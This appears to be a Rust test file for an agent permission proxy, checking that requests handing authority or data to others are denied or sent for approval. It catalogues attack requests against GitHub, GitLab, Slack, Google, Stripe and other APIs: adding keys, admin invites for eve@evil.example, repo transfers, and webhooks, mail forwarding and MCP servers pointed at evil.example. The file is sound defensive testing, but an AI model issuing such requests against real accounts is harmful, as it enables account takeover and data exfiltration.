//! Rows of the attack catalogue above HTTP (group G): what hands authority or data to somebody else is covered by no class and no `*`,
//! and whoever is permitted it by its effect is asked. One table, judged by `policy test`.

use std::collections::{BTreeMap, BTreeSet};

use e2e::House;
use e2e::house::{root, tool};
use serde_json::{Value, json};
use testkit::{Answer, Canary, Upstream};

use crate::talk::echo_house;

const SERVICES: [&str; 14] = [
    "anthropic",
    "crates",
    "gemini",
    "github",
    "gitlab",
    "google",
    "jira",
    "linear",
    "notion",
    "npm",
    "openai",
    "pypi",
    "slack",
    "stripe",
];

/// Row, method, URL, and a body where that matters.
type Attack = (u32, &'static str, &'static str, &'static str);

const ATTACKS: &[Attack] = &[
    // Several requests as one.
    (
        86,
        "POST",
        "https://www.googleapis.com/batch/drive/v3",
        "multipart:--b\r\nContent-Type: application/http\r\n\r\nPOST /drive/v3/files/1/permissions HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}\r\n--b--\r\n",
    ),
    (
        86,
        "POST",
        "https://gmail.googleapis.com/batch",
        "multipart:--b\r\nContent-Type: application/http\r\n\r\nPOST /gmail/v1/users/me/messages/send HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}\r\n--b--\r\n",
    ),
    (
        86,
        "POST",
        "https://api.github.com/graphql",
        r#"[{"query":"{viewer{login}}"},{"query":"mutation{createMigrationSource(input:{ownerId:\"O\",name:\"n\",url:\"https://evil.example\",type:GITHUB_ARCHIVE}){clientMutationId}}"}]"#,
    ),
    (
        86,
        "POST",
        "https://mcp.linear.app/mcp",
        r#"[{"jsonrpc":"2.0","id":1,"method":"tools/list"},{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"surprise","arguments":{}}}]"#,
    ),
    (86, "POST", "https://api.notion.com/v1/agents/batch", "{}"),
    (86, "POST", "https://slack.com/api/apps.manifest.update", r#"{"app_id":"A1","manifest":"{}"}"#),
    // Authority for whoever holds the answer.
    // An upload's address alone shows nothing to anybody; what shares the file does.
    (91, "POST", "https://slack.com/api/files.completeUploadExternal", r#"{"files":[{"id":"F1"}],"channel_id":"C1"}"#),
    (91, "POST", "https://slack.com/api/files.sharedPublicURL", r#"{"file":"F1"}"#),
    (91, "POST", "https://api.github.com/app/installations/1/access_tokens", "{}"),
    (91, "POST", "https://api.github.com/repos/o/r/actions/runners/registration-token", ""),
    (
        91,
        "POST",
        "https://api.github.com/repos/o/r/actions/runners/generate-jitconfig",
        r#"{"name":"r","runner_group_id":1,"labels":[]}"#,
    ),
    (
        91,
        "POST",
        "https://api.github.com/graphql",
        r#"{"query":"{repository(owner:\"o\",name:\"r\"){tempCloneToken}}"}"#,
    ),
    (91, "POST", "https://gitlab.com/api/v4/projects/1/access_tokens", r#"{"name":"n","scopes":["api"]}"#),
    (91, "POST", "https://api.openai.com/v1/realtime/client_secrets", "{}"),
    (91, "POST", "https://api.stripe.com/v1/ephemeral_keys", "form:customer=cus_1"),
    (91, "POST", "https://api.stripe.com/v1/file_links", "form:file=file_1"),
    (91, "POST", "https://api.stripe.com/v1/account_links", "form:account=acct_1&type=account_onboarding"),
    (91, "POST", "https://generativelanguage.googleapis.com/v1alpha/auth_tokens", "{}"),
    (91, "POST", "https://registry.npmjs.org/-/npm/v1/tokens", r#"{"password":"p"}"#),
    // Credentials and people that stay: twenty-five ways at GitHub, and elsewhere.
    (92, "POST", "https://api.github.com/user/keys", r#"{"a":"b"}"#),
    (92, "POST", "https://api.github.com/user/gpg_keys", r#"{"a":"b"}"#),
    (92, "POST", "https://api.github.com/user/ssh_signing_keys", r#"{"a":"b"}"#),
    (92, "POST", "https://api.github.com/repos/o/r/keys", r#"{"a":"b"}"#),
    (92, "POST", "https://api.github.com/user/emails", r#"{"emails":["eve@evil.example"]}"#),
    (92, "PATCH", "https://api.github.com/user/email/visibility", r#"{"visibility":"public"}"#),
    (92, "DELETE", "https://api.github.com/user/emails", r#"{"emails":["ada@example.com"]}"#),
    (92, "POST", "https://api.github.com/orgs/o/invitations", r#"{"email":"eve@evil.example"}"#),
    (92, "PUT", "https://api.github.com/orgs/o/memberships/eve", r#"{"role":"admin"}"#),
    (92, "PUT", "https://api.github.com/repos/o/r/collaborators/eve", r#"{"permission":"admin"}"#),
    (92, "PUT", "https://api.github.com/orgs/o/outside_collaborators/eve", ""),
    (92, "PUT", "https://api.github.com/orgs/o/teams/t/memberships/eve", r#"{"a":"b"}"#),
    (92, "PUT", "https://api.github.com/orgs/o/teams/t/repos/o/r", r#"{"permission":"admin"}"#),
    (92, "PUT", "https://api.github.com/repos/o/r/actions/secrets/S", r#"{"encrypted_value":"x","key_id":"1"}"#),
    (
        92,
        "PUT",
        "https://api.github.com/orgs/o/actions/secrets/S",
        r#"{"encrypted_value":"x","key_id":"1","visibility":"all"}"#,
    ),
    (92, "PUT", "https://api.github.com/repos/o/r/environments/e/secrets/S", r#"{"encrypted_value":"x","key_id":"1"}"#),
    (92, "PUT", "https://api.github.com/repos/o/r/dependabot/secrets/S", r#"{"encrypted_value":"x","key_id":"1"}"#),
    (92, "PUT", "https://api.github.com/user/codespaces/secrets/S", r#"{"encrypted_value":"x","key_id":"1"}"#),
    (92, "POST", "https://api.github.com/repos/o/r/transfer", r#"{"new_owner":"evil"}"#),
    (92, "PATCH", "https://api.github.com/repos/o/r", r#"{"private":false}"#),
    (92, "DELETE", "https://api.github.com/repos/o/r/branches/main/protection", ""),
    (92, "PUT", "https://api.github.com/orgs/o/actions/permissions", r#"{"enabled_repositories":"all"}"#),
    (92, "PATCH", "https://api.github.com/applications/c/token", r#"{"access_token":"t"}"#),
    (92, "POST", "https://api.github.com/app-manifests/x/conversions", ""),
    (92, "POST", "https://api.github.com/orgs/o/personal-access-token-requests", r#"{"action":"approve"}"#),
    (92, "POST", "https://gitlab.com/api/v4/user/keys", r#"{"a":"b"}"#),
    (92, "POST", "https://gitlab.com/api/v4/projects/1/deploy_keys", r#"{"a":"b"}"#),
    (92, "POST", "https://gitlab.com/api/v4/projects/1/deploy_tokens", r#"{"a":"b"}"#),
    (92, "POST", "https://gitlab.com/api/v4/projects/1/members", r#"{"user_id":2,"access_level":50}"#),
    (92, "POST", "https://gitlab.com/api/v4/projects/1/variables", r#"{"key":"K","value":"v"}"#),
    (92, "POST", "https://gitlab.com/api/v4/projects/1/triggers", r#"{"a":"b"}"#),
    (92, "POST", "https://gitlab.com/api/v4/user/emails", r#"{"email":"eve@evil.example"}"#),
    (92, "POST", "https://slack.com/api/admin.users.invite", r#"{"email":"eve@evil.example"}"#),
    (92, "POST", "https://slack.com/api/admin.users.setOwner", r#"{"user_id":"U1"}"#),
    (
        92,
        "POST",
        "https://slack.com/api/conversations.inviteShared",
        r#"{"channel":"C1","emails":["eve@evil.example"]}"#,
    ),
    (92, "POST", "https://slack.com/api/auth.revoke", r#"{"a":"b"}"#),
    (92, "POST", "https://api.stripe.com/v1/accounts", "form:type=express"),
    (92, "POST", "https://api.stripe.com/v1/apps/secrets", "form:name=n&payload=p"),
    (92, "POST", "https://api.openai.com/v1/organization/admin_api_keys", r#"{"name":"n"}"#),
    (92, "POST", "https://api.openai.com/v1/organization/invites", r#"{"email":"eve@evil.example","role":"owner"}"#),
    (92, "POST", "https://api.openai.com/v1/organization/projects/p/service_accounts", r#"{"name":"n"}"#),
    (
        92,
        "POST",
        "https://api.anthropic.com/v1/organizations/invites",
        r#"{"email":"eve@evil.example","role":"admin"}"#,
    ),
    (92, "POST", "https://api.anthropic.com/v1/organizations/api_keys/k", r#"{"status":"active"}"#),
    (
        92,
        "POST",
        "https://www.googleapis.com/drive/v3/files/1/permissions",
        r#"{"type":"user","role":"owner","emailAddress":"eve@evil.example"}"#,
    ),
    (
        92,
        "POST",
        "https://gmail.googleapis.com/gmail/v1/users/me/settings/delegates",
        r#"{"delegateEmail":"eve@evil.example"}"#,
    ),
    (
        92,
        "POST",
        "https://gmail.googleapis.com/gmail/v1/users/me/settings/sendAs",
        r#"{"sendAsEmail":"eve@evil.example"}"#,
    ),
    (92, "PUT", "https://registry.npmjs.org/-/package/p/collaborators", r#"{"a":"b"}"#),
    (92, "PUT", "https://crates.io/api/v1/crates/c/owners", r#"{"users":["eve"]}"#),
    (92, "PUT", "https://crates.io/api/v1/me/tokens", r#"{"api_token":{"name":"n"}}"#),
    (92, "POST", "https://acme.atlassian.net/rest/api/3/user", r#"{"emailAddress":"eve@evil.example"}"#),
    (
        92,
        "POST",
        "https://api.linear.app/graphql",
        r#"{"query":"mutation{organizationInviteCreate(input:{email:\"eve@evil.example\",role:admin}){success}}"}"#,
    ),
    // Data to an address that the agent chose.
    (93, "POST", "https://api.github.com/repos/o/r/hooks", r#"{"config":{"url":"https://evil.example"}}"#),
    (93, "POST", "https://api.github.com/orgs/o/hooks", r#"{"name":"web","config":{"url":"https://evil.example"}}"#),
    (93, "PATCH", "https://api.github.com/repos/o/r/hooks/1/config", r#"{"url":"https://evil.example"}"#),
    (
        93,
        "PUT",
        "https://api.github.com/repos/o/r/contents/.github/workflows/x.yml",
        r#"{"message":"m","content":"eA=="}"#,
    ),
    (
        93,
        "PUT",
        "https://api.github.com/repos/o/r/contents/.github/actions/a/action.yml",
        r#"{"message":"m","content":"eA=="}"#,
    ),
    (
        93,
        "POST",
        "https://api.github.com/graphql",
        r#"{"query":"mutation($i:CreateCommitOnBranchInput!){createCommitOnBranch(input:$i){clientMutationId}}","variables":{"i":{"branch":{"repositoryNameWithOwner":"o/r","branchName":"b"},"message":{"headline":"h"},"expectedHeadOid":"0","fileChanges":{"additions":[{"path":".github/workflows/x.yml","contents":"eA=="}]}}}}"#,
    ),
    (93, "POST", "https://api.github.com/gists", r#"{"public":true,"files":{"a":{"content":"c"}}}"#),
    (93, "POST", "https://api.github.com/user/repos", r#"{"name":"n","private":false}"#),
    (93, "POST", "https://gitlab.com/api/v4/projects/1/hooks", r#"{"url":"https://evil.example"}"#),
    (93, "PUT", "https://gitlab.com/api/v4/projects/1/integrations/slack", r#"{"webhook":"https://evil.example"}"#),
    (93, "POST", "https://gitlab.com/api/v4/projects/1/remote_mirrors", r#"{"url":"https://evil.example"}"#),
    (
        93,
        "POST",
        "https://gmail.googleapis.com/gmail/v1/users/me/settings/forwardingAddresses",
        r#"{"forwardingEmail":"eve@evil.example"}"#,
    ),
    (
        93,
        "PUT",
        "https://gmail.googleapis.com/gmail/v1/users/me/settings/autoForwarding",
        r#"{"enabled":true,"emailAddress":"eve@evil.example"}"#,
    ),
    (
        93,
        "POST",
        "https://gmail.googleapis.com/gmail/v1/users/me/settings/filters",
        r#"{"action":{"forward":"eve@evil.example"}}"#,
    ),
    (
        93,
        "POST",
        "https://www.googleapis.com/drive/v3/files/1/watch",
        r#"{"id":"i","type":"web_hook","address":"https://evil.example"}"#,
    ),
    (93, "POST", "https://api.stripe.com/v1/webhook_endpoints", "form:url=https%3A%2F%2Fevil.example"),
    (93, "POST", "https://acme.atlassian.net/rest/api/3/webhook", r#"{"url":"https://evil.example","webhooks":[]}"#),
    (
        93,
        "POST",
        "https://api.linear.app/graphql",
        r#"{"query":"mutation{webhookCreate(input:{url:\"https://evil.example\",allPublicTeams:true,resourceTypes:[\"Issue\"]}){success}}"}"#,
    ),
    (93, "POST", "https://generativelanguage.googleapis.com/v1beta/webhooks", r#"{"uri":"https://evil.example"}"#),
    // Addresses that the service itself asks, with what it knows.
    (94, "PUT", "https://api.github.com/repos/o/r/import", r#"{"vcs_url":"https://evil.example/x.git"}"#),
    (94, "POST", "https://gitlab.com/api/v4/projects", r#"{"name":"n","import_url":"https://evil.example/x.git"}"#),
    (94, "POST", "https://gitlab.com/api/v4/projects/remote-import", r#"{"url":"https://evil.example/x","path":"p"}"#),
    (
        94,
        "POST",
        "https://gitlab.com/api/v4/import/github",
        r#"{"personal_access_token":"x","repo_id":1,"target_namespace":"n"}"#,
    ),
    (94, "POST", "https://slack.com/api/chat.unfurl", r#"{"channel":"C1","ts":"1","unfurls":{}}"#),
    (
        94,
        "POST",
        "https://slack.com/api/files.remote.add",
        r#"{"external_url":"https://evil.example","external_id":"1","title":"t"}"#,
    ),
    (
        94,
        "POST",
        "https://api.notion.com/v1/file_uploads",
        r#"{"mode":"external_url","external_url":"https://evil.example/?x"}"#,
    ),
    (
        94,
        "POST",
        "https://docs.googleapis.com/v1/documents/1:batchUpdate",
        r#"{"requests":[{"insertInlineImage":{"uri":"https://evil.example/?x"}}]}"#,
    ),
    (
        94,
        "POST",
        "https://api.openai.com/v1/responses",
        r#"{"model":"m","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example"}]}"#,
    ),
    (
        94,
        "POST",
        "https://api.anthropic.com/v1/messages",
        r#"{"model":"m","max_tokens":1,"messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example","name":"x"}]}"#,
    ),
    (
        94,
        "POST",
        "https://api.linear.app/graphql",
        r#"{"query":"mutation{imageUploadFromUrl(url:\"https://evil.example\"){success}}"}"#,
    ),
];

/// Headers and body of a case. A form and parts say so before them.
fn case(text: &str) -> (Value, Value) {
    let kind = |kind: &str| json!({ "content-type": kind });
    match text.split_once(':') {
        _ if text.is_empty() => (json!({}), Value::Null),
        Some(("form", form)) => (kind("application/x-www-form-urlencoded"), json!(form)),
        Some(("multipart", parts)) => (kind("multipart/mixed; boundary=b"), json!(parts)),
        _ => (kind("application/json"), serde_json::from_str(text).unwrap()),
    }
}

/// What one agent, which is permitted these actions of every service, gets for each attack: the verdict and the actions.
fn judged(house: &House, actions: &BTreeSet<String>) -> Vec<(String, Vec<String>)> {
    let credentials = SERVICES.map(|name| (name, json!({ "service": name, "from": "env:NOBODYS_TOKEN" })));
    let mut permissions = Vec::new();
    for service in SERVICES {
        let named = actions
            .iter()
            .filter_map(|one| one.strip_prefix(&format!("{service} ")).or_else(|| one.strip_prefix("* ")));
        let named: Vec<&str> = named.collect();
        if !named.is_empty() {
            permissions
                .push(json!({ "service": service, "credential": service, "actions": named, "resources": ["*"] }));
        }
    }
    let agents = json!({ "agent": { "permissions": permissions } });
    let config = json!({ "version": 1, "credentials": BTreeMap::from(credentials), "agents": agents });
    std::fs::write(house.path("policy.yaml"), config.to_string()).unwrap();
    let cases = ATTACKS.iter().map(|(_, method, url, text)| {
        let (headers, body) = case(text);
        let mut one =
            json!({ "agent": "agent", "request": format!("{method} {url}"), "headers": headers, "expect": "deny" });
        if !body.is_null() {
            one["body"] = body;
        }
        one
    });
    let table = json!({ "policy": "policy.yaml", "tests": cases.collect::<Vec<_>>() });
    std::fs::write(house.path("table.yaml"), table.to_string()).unwrap();
    let said = house.valetkey(&["policy", "test", "--json", "table.yaml"]);
    let said: Value = serde_json::from_str(&said.stdout).unwrap_or_else(|error| panic!("{error}: {}", said.stderr));
    let tests = said["tests"].as_array().unwrap();
    assert_eq!(tests.len(), ATTACKS.len());
    let words =
        |one: &Value| one["actions"].as_array().unwrap().iter().map(|id| id.as_str().unwrap().to_owned()).collect();
    tests.iter().map(|one| (one["got"].as_str().unwrap_or_default().to_owned(), words(one))).collect()
}

fn service_of(url: &str) -> &'static str {
    let host = url.trim_start_matches("https://").split('/').next().unwrap();
    match host {
        "generativelanguage.googleapis.com" => "gemini",
        "acme.atlassian.net" => "jira",
        _ if host.ends_with("googleapis.com") => "google",
        _ => SERVICES.into_iter().find(|name| host.contains(name)).unwrap(),
    }
}

/// Rows G86 and G91 to G94.
#[test]
fn what_hands_authority_or_data_away_is_covered_by_no_star_and_asks() {
    let house = House::new("version: 1\n", &[]);
    let wide = ["*", "read", "write", "delete", "spend"].map(|word| format!("* {word}"));
    let denied = judged(&house, &BTreeSet::from(wide));
    // Then each by its own name, without a word about approval.
    let mut named = BTreeSet::new();
    for ((_, _, url, _), (_, actions)) in ATTACKS.iter().zip(&denied) {
        named.extend(actions.iter().map(|id| format!("{} {id}", service_of(url))));
    }
    let asked = judged(&house, &named);
    let mut wrong = Vec::new();
    let mut counts: BTreeMap<u32, usize> = BTreeMap::new();
    for (((row, method, url, text), (wide, actions)), (by_name, _)) in ATTACKS.iter().zip(&denied).zip(&asked) {
        *counts.entry(*row).or_default() += 1;
        if wide != "deny" || by_name != "ask" || actions.is_empty() {
            wrong.push(format!(
                "G{row} {method} {url} {text}: {actions:?}: by a class or `*` {wide}, by its name {by_name}"
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    println!("{counts:?}");
    assert!(counts[&92] >= 50 && counts[&93] >= 15 && counts[&94] >= 10, "{counts:?}");
}

/// Row G90: of gRPC each method is for itself; what lists methods and what streams is no way around, and streams are counted like the rest.
#[test]
fn grpc_methods_are_judged_one_by_one() {
    let upstream = Upstream::start();
    let agents = "  caller:\n    permissions:\n      - service: echo\n        credential: echo-token\n        methods: [POST]\n        \
                  endpoints: [/test.Echo/Say, /test.Echo/Upload]\n        conditions: { limit: 4/hour }\n";
    let (house, canary) = echo_house(&upstream, agents);
    let python = tool("venv/bin/python").display().to_string();
    let script = root().join("tests/e2e/clients/grpc_calls.py").display().to_string();
    let calls = [
        ("/test.Echo/Say", "unary", "OK"),
        ("/test.Echo/Upload", "both", "OK"),
        ("/test.Echo/SayMore", "unary", "PERMISSION_DENIED"),
        ("/test.Echo/say", "unary", "PERMISSION_DENIED"),
        ("/test.Admin/Say", "unary", "PERMISSION_DENIED"),
        ("/test.Admin/Drop", "up", "PERMISSION_DENIED"),
        ("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", "both", "PERMISSION_DENIED"),
        ("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", "both", "PERMISSION_DENIED"),
        ("/test.Echo/Say", "unary", "OK"),
        ("/test.Echo/Upload", "both", "OK"),
        // The fifth in an hour: 429, which gRPC knows as this.
        ("/test.Echo/Upload", "both", "UNAVAILABLE"),
    ];
    let mut words = vec![python.as_str(), script.as_str()];
    words.extend(calls.iter().flat_map(|(method, streams, _)| [*method, *streams]));
    let (done, receipt) = house.run("caller", &words);
    let done = done.expect_success("grpcio");
    canary.assert_absent("the output", done.stdout.as_bytes());
    let expected: Vec<String> =
        calls.iter().map(|(method, streams, code)| format!("{method} {streams} {code}")).collect();
    assert_eq!(done.stdout.lines().collect::<Vec<_>>(), expected);
    assert_eq!((receipt.count("allowed"), receipt.count("denied")), (4, 7), "{:?}", receipt.0);
    let arrived: Vec<String> = upstream.journal().all().iter().map(|seen| seen.path().to_owned()).collect();
    assert_eq!(arrived, ["/test.Echo/Say", "/test.Echo/Upload", "/test.Echo/Say", "/test.Echo/Upload"]);
    // Fifty messages of three octets and five before each.
    let export = house.valetkey(&["audit", "export", "--json"]).expect_success("export").stdout;
    let events = export.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    let sent = |event: &Value| event["kind"] == "outcome" && event["request"]["bytes"] == 400;
    assert_eq!(events.filter(sent).count(), 2, "{export}");
    house.assert_audit();
}

/// Row G95: a repository that has another name by now, or only a number, is another place; who follows a redirect asks anew.
#[test]
fn redirects_of_what_was_renamed_are_judged_again() {
    let to = |status: u16, location: &str| Answer::status(status).header("location", location);
    let upstream = Upstream::builder()
        .handler(move |seen| {
            Some(match (seen.method.as_str(), seen.path()) {
                ("GET", "/repos/acme/old") => to(301, "https://api.github.com/repositories/99"),
                ("POST", "/repos/acme/old/issues") => to(307, "https://api.github.com/repositories/99/issues"),
                ("PATCH", "/repos/acme/old/issues/1") => to(308, "https://api.github.com/repos/evil/new/issues/1"),
                ("GET", "/repos/acme/old/issues") => to(301, "https://api.github.com/repos/acme/new/issues"),
                ("GET", "/repos/acme/old/labels") => to(302, "https://evil.example/labels"),
                _ => Answer::json(&json!({ "id": 99, "full_name": "evil/new" })),
            })
        })
        .start();
    let token = Canary::new(932, "ghp_", 36);
    let config = format!(
        "version: 1\negress: closed\ncredentials:\n  hub: {{ service: github, from: env:GITHUB_TOKEN }}\nagents:\n  coder:\n    permissions:\n      \
         - {{ service: github, credential: hub, actions: [read, issues/create, issues/update], resources: [\"repo:acme/old\"] }}\nupstreams:\n{}{}",
        upstream.entry("api.github.com"),
        upstream.entry("evil.example")
    );
    let house = House::new(&config, &[("GITHUB_TOKEN", &token.value())]);
    let curl = "curl -sS -L --post301 --post302 -o out -w '%{http_code} %{num_redirects} ' -H \"Authorization: Bearer $GITHUB_TOKEN\" \
                -H 'Content-Type: application/json'";
    for (more, url, expected) in [
        ("", "/repos/acme/old", "403 1 denied"),
        ("-d '{\"title\":\"t\"}'", "/repos/acme/old/issues", "403 1 denied"),
        ("-X PATCH -d '{\"state\":\"closed\"}'", "/repos/acme/old/issues/1", "403 1 denied"),
        ("", "/repos/acme/old/issues", "403 1 denied"),
        ("", "/repos/acme/old/labels", "403 1 unknown_host"),
        // The same place in other words, and others.
        ("", "/repos/ACME/Old/branches", "200 0 "),
        ("", "/repositories/99/branches", "403 0 denied"),
        ("", "/repos/acme/old~/branches", "403 0 denied"),
        ("", "/repos/~/old/branches", "403 0 denied"),
        ("", "/users/acme", "403 0 denied"),
    ] {
        let script = format!(
            "{curl} {more} https://api.github.com{url}; sed -n 's/.*\"code\":\"\\([a-z_]*\\)\".*/\\1/p' out | tr -d '\\n'"
        );
        let (done, _) = house.run("coder", &["sh", "-c", &script]);
        assert_eq!(done.stdout, expected, "{url}: {}", done.stderr);
        token.assert_absent(url, done.stdout.as_bytes());
    }
    let arrived: Vec<String> = upstream.journal().all().iter().map(|seen| seen.path().to_owned()).collect();
    assert!(
        arrived.len() == 6 && arrived.iter().all(|path| path.to_lowercase().starts_with("/repos/acme/old")),
        "{arrived:?}"
    );
    house.assert_audit();
}
